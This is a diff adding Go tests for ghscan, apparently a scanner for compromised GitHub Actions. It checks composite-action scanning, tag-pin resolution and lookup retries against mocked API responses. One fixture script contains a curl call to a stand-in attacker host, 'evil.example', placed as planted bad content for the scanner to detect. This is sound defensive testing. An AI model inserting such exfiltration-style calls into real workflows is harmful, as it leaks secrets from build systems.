@@ -0,0 +1,299 @@
+package action_test
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/chainguard-dev/ghscan/internal/action"
+	ghscan "github.com/chainguard-dev/ghscan/pkg/ghscan"
+	"github.com/chainguard-dev/ghscan/pkg/ioc"
+	wf "github.com/chainguard-dev/ghscan/pkg/workflow"
+	"github.com/google/go-github/v86/github"
+	"github.com/spf13/viper"
+)
+
+// serveContent registers a contents API response for path that only
+// answers when ref matches, so a test observes which ref was fetched.
+func serveContent(t *testing.T, mux *http.ServeMux, path, ref, body string, hits *atomic.Int32) {
+	t.Helper()
+	mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
+		if got := r.URL.Query().Get("ref"); got != ref {
+			http.NotFound(w, r)
+			return
+		}
+		if hits != nil {
+			hits.Add(1)
+		}
+		_ = json.NewEncoder(w).Encode(github.RepositoryContent{
+			Type:     new("file"),
+			Encoding: new("base64"),
+			Content:  new(base64.StdEncoding.EncodeToString([]byte(body))),
+			SHA:      new("cafe"),
+			Size:     new(len(body)),
+		})
+	})
+}
+
+// TestScan_ScanActions asserts the actions a workflow references are
+// scanned at their pinned ref, composite actions are followed up to
+// scan_actions_depth, findings are attributed to the calling step and
+// the action file, and an action shared by two repositories is fetched
+// once.
+func TestScan_ScanActions(t *testing.T) {
+	chdirTemp(t)
+	viper.Set("max_retries", 1)
+	viper.Set("operation_timeout", "30s")
+	viper.Set("scan_logs", false)
+	viper.Set("scan_actions", true)
+	viper.Set("scan_actions_depth", 2)
+	t.Cleanup(viper.Reset)
+
+	workflowBody := "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n" +
+		"      - name: Tool\n        uses: acme/tool@v1\n"
+
+	mux := http.NewServeMux()
+	var toolHits atomic.Int32
+	for _, repo := range []string{"app", "web"} {
+		mux.HandleFunc("/repos/octo/"+repo+"/contents/.github/workflows", func(w http.ResponseWriter, _ *http.Request) {
+			_ = json.NewEncoder(w).Encode([]*github.RepositoryContent{
+				{Type: new("file"), Name: new("ci.yml"), Path: new(".github/workflows/ci.yml")},
+			})
+		})
+		serveContent(t, mux, "/repos/octo/"+repo+"/contents/.github/workflows/ci.yml", "", workflowBody, nil)
+	}
+	serveContent(t, mux, "/repos/acme/tool/contents/action.yml", "v1",
+		"runs:\n  using: composite\n  steps:\n"+
+			"    - uses: acme/inner/sub@v2\n"+
+			"    - run: ${{ github.action_path }}/run.sh\n      shell: bash\n", &toolHits)
+	serveContent(t, mux, "/repos/acme/tool/contents/run.sh", "v1",
+		"#!/bin/sh\ncurl https://evil.example/DROP_THIS_TOKEN\n", nil)
+	serveContent(t, mux, "/repos/acme/inner/contents/sub/action.yml", "v2",
+		"runs:\n  using: composite\n  steps:\n    - uses: acme/deeper@v3\n    - run: echo DROP_THIS_TOKEN\n      shell: bash\n", nil)
+	mux.HandleFunc("/repos/acme/deeper/", func(w http.ResponseWriter, r *http.Request) {
+		t.Errorf("fetched %s beyond scan_actions_depth", r.URL.Path)
+		http.NotFound(w, r)
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+
+	gh, hc := newTestClients(t, srv)
+	customIOC, err := ioc.NewIOC(&ioc.Config{Name: "test-only", Content: []string{"DROP_THIS_TOKEN"}})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+	end := time.Now()
+	req := ghscan.NewRequest(ghscan.RequestConfig{
+		CachedResults: map[string]bool{},
+		Client:        gh,
+		HTTPClient:    hc,
+		EndTime:       end,
+		IOC:           customIOC,
+		StartTime:     end.Add(-time.Hour),
+		Token:         "test-token",
+		Corpus:        &ioc.Corpus{Version: 1},
+	})
+	repos := []*github.Repository{
+		{Name: new("app"), Owner: &github.User{Login: new("octo")}},
+		{Name: new("web"), Owner: &github.User{Login: new("octo")}},
+	}
+
+	if err := action.Scan(t.Context(), newSilentLogger(), req, repos); err != nil {
+		t.Fatalf("Scan: %v", err)
+	}
+
+	want := map[string]string{
+		"acme/tool@v1":      "run.sh",
+		"acme/inner/sub@v2": "sub/action.yml",
+	}
+	perRepo := map[string]int{}
+	for _, r := range req.Cache.Results {
+		if r.Source != "action" {
+			t.Errorf("unexpected %q finding: %+v", r.Source, r)
+			continue
+		}
+		if file, ok := want[r.Action]; !ok || r.ActionFile != file {
+			t.Errorf("finding in %s %s, want one of %v", r.Action, r.ActionFile, want)
+		}
+		if r.OffendingUsesLine != "acme/tool@v1" || r.StepName != "Tool" || r.WorkflowFileName != "ci.yml" || r.IOCName != "test-only" {
+			t.Errorf("finding not attributed to the calling step: %+v", r)
+		}
+		perRepo[r.Repository]++
+	}
+	if perRepo["octo/app"] != 2 || perRepo["octo/web"] != 2 {
+		t.Fatalf("findings per repo=%v, want 2 each", perRepo)
+	}
+	if got := toolHits.Load(); got != 1 {
+		t.Fatalf("acme/tool manifest fetched %d times, want 1", got)
+	}
+}
+
+// TestScan_ResolveTags asserts a tag pin that resolves to a corpus ref
+// or IOC content is reported as a tag-pin finding, a tag resolving to
+// an unknown commit is not, a tag the corpus already lists is left to
+// the YAML scan, and a tag shared by two repositories is resolved once.
+func TestScan_ResolveTags(t *testing.T) {
+	chdirTemp(t)
+	viper.Set("max_retries", 1)
+	viper.Set("operation_timeout", "30s")
+	viper.Set("scan_logs", false)
+	viper.Set("resolve_tags", true)
+	t.Cleanup(viper.Reset)
+
+	const (
+		badCommit = "0e58ed8671d6b60d0890c21b07f8835ace038e67"
+		iocCommit = "1111111111111111111111111111111111111111"
+		okCommit  = "2222222222222222222222222222222222222222"
+	)
+	workflowBody := "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n" +
+		"      - name: Moved\n        uses: acme/moved@v1.2.3\n" +
+		"      - uses: acme/iochit@v2\n" +
+		"      - uses: acme/clean@v3\n" +
+		"      - uses: acme/listed@v4\n"
+
+	mux := http.NewServeMux()
+	for _, repo := range []string{"app", "web"} {
+		mux.HandleFunc("/repos/octo/"+repo+"/contents/.github/workflows", func(w http.ResponseWriter, _ *http.Request) {
+			_ = json.NewEncoder(w).Encode([]*github.RepositoryContent{
+				{Type: new("file"), Name: new("ci.yml"), Path: new(".github/workflows/ci.yml")},
+			})
+		})
+		serveContent(t, mux, "/repos/octo/"+repo+"/contents/.github/workflows/ci.yml", "", workflowBody, nil)
+	}
+	var movedHits atomic.Int32
+	serveRef := func(path, sha string, hits *atomic.Int32) {
+		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
+			if hits != nil {
+				hits.Add(1)
+			}
+			_ = json.NewEncoder(w).Encode(github.Reference{
+				Object: &github.GitObject{Type: new("commit"), SHA: new(sha)},
+			})
+		})
+	}
+	serveRef("/repos/acme/moved/git/ref/tags/v1.2.3", badCommit, &movedHits)
+	serveRef("/repos/acme/iochit/git/ref/tags/v2", iocCommit, nil)
+	serveRef("/repos/acme/clean/git/ref/tags/v3", okCommit, nil)
+	mux.HandleFunc("/repos/acme/listed/", func(w http.ResponseWriter, r *http.Request) {
+		t.Errorf("resolved %s, a tag the corpus already lists", r.URL.Path)
+		http.NotFound(w, r)
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+
+	gh, hc := newTestClients(t, srv)
+	customIOC, err := ioc.NewIOC(&ioc.Config{Name: "test-only", Content: []string{iocCommit}})
+	if err != nil {
+		t.Fatalf("build IOC: %v", err)
+	}
+	end := time.Now()
+	req := ghscan.NewRequest(ghscan.RequestConfig{
+		CachedResults: map[string]bool{},
+		Client:        gh,
+		HTTPClient:    hc,
+		EndTime:       end,
+		IOC:           customIOC,
+		StartTime:     end.Add(-time.Hour),
+		Token:         "test-token",
+		Corpus: &ioc.Corpus{Version: 1, IOCs: []ioc.CorpusEntry{
+			{Action: "acme/moved", Refs: []string{badCommit}},
+			{Action: "acme/listed", Tags: []string{"v4"}},
+		}},
+	})
+	repos := []*github.Repository{
+		{Name: new("app"), Owner: &github.User{Login: new("octo")}},
+		{Name: new("web"), Owner: &github.User{Login: new("octo")}},
+	}
+
+	if err := action.Scan(t.Context(), newSilentLogger(), req, repos); err != nil {
+		t.Fatalf("Scan: %v", err)
+	}
+
+	want := map[string]string{
+		"acme/moved@v1.2.3": "acme/moved",
+		"acme/iochit@v2":    "test-only",
+	}
+	wantSHA := map[string]string{
+		"acme/moved@v1.2.3": badCommit,
+		"acme/iochit@v2":    iocCommit,
+	}
+	perRepo := map[string]int{}
+	for _, r := range req.Cache.Results {
+		if r.Source == "yaml" && r.OffendingUsesLine == "acme/listed@v4" {
+			continue
+		}
+		if r.Source != "tag-pin" {
+			t.Errorf("unexpected %q finding: %+v", r.Source, r)
+			continue
+		}
+		name, ok := want[r.OffendingUsesLine]
+		if !ok || r.IOCName != name || r.CommitSHA != wantSHA[r.OffendingUsesLine] {
+			t.Errorf("tag-pin finding %+v, want IOC %q and commit %q", r, name, wantSHA[r.OffendingUsesLine])
+		}
+		if r.ResolvedRefForm != "tag" || r.WorkflowFileName != "ci.yml" || r.Confidence != 95 {
+			t.Errorf("tag-pin finding not attributed to the pinning step: %+v", r)
+		}
+		perRepo[r.Repository]++
+	}
+	if perRepo["octo/app"] != 2 || perRepo["octo/web"] != 2 {
+		t.Fatalf("tag-pin findings per repo=%v, want 2 each", perRepo)
+	}
+	if got := movedHits.Load(); got != 1 {
+		t.Fatalf("acme/moved tag resolved %d times, want 1", got)
+	}
+}
+
+// TestTagResolver_RetriesFailedLookups asserts a lookup cut short by
+// one caller's context is retried by the next caller, while a resolved
+// tag and a missing one are each looked up only once.
+func TestTagResolver_RetriesFailedLookups(t *testing.T) {
+	const commit = "2222222222222222222222222222222222222222"
+
+	var movedHits, goneHits atomic.Int32
+	mux := http.NewServeMux()
+	mux.HandleFunc("/repos/acme/moved/git/ref/tags/v1", func(w http.ResponseWriter, _ *http.Request) {
+		movedHits.Add(1)
+		_ = json.NewEncoder(w).Encode(github.Reference{
+			Object: &github.GitObject{Type: new("commit"), SHA: new(commit)},
+		})
+	})
+	mux.HandleFunc("/repos/acme/gone/git/ref/tags/v1", func(w http.ResponseWriter, r *http.Request) {
+		goneHits.Add(1)
+		http.NotFound(w, r)
+	})
+	srv := httptest.NewServer(mux)
+	t.Cleanup(srv.Close)
+	gh, _ := newTestClients(t, srv)
+
+	r := action.NewTagResolverForTest(newSilentLogger(), 1)
+	moved := wf.ActionRef{Owner: "acme", Repo: "moved", Ref: "v1"}
+
+	canceled, cancel := context.WithCancel(t.Context())
+	cancel()
+	if got := r.Resolve(canceled, gh, moved); got != "" {
+		t.Fatalf("Resolve with a canceled context = %q, want \"\"", got)
+	}
+	for range 2 {
+		if got := r.Resolve(t.Context(), gh, moved); got != commit {
+			t.Fatalf("Resolve after a canceled lookup = %q, want %q", got, commit)
+		}
+	}
+	if got := movedHits.Load(); got != 1 {
+		t.Fatalf("resolved tag looked up %d times, want 1", got)
+	}
+
+	gone := wf.ActionRef{Owner: "acme", Repo: "gone", Ref: "v1"}
+	for range 2 {
+		if got := r.Resolve(t.Context(), gh, gone); got != "" {
+			t.Fatalf("Resolve of a missing tag = %q, want \"\"", got)
+		}
+	}
+	if got := goneHits.Load(); got != 1 {
+		t.Fatalf("missing tag looked up %d times, want 1", got)
+	}
+}